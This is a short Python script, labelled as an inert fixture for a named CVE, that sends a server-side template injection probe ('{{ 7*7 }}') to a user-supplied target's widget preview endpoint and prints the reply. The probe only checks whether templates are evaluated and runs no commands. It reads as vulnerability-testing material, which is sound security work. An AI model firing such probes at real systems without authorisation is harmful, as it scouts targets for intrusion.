# CVE-2023-41001 (inert fixture)
import argparse
import requests

ap = argparse.ArgumentParser()
ap.add_argument("--target", required=True)
args = ap.parse_args()
payload = "{{ 7*7 }}"
print(requests.post(args.target + "/api/widgets/preview", json={"template": payload}).text)
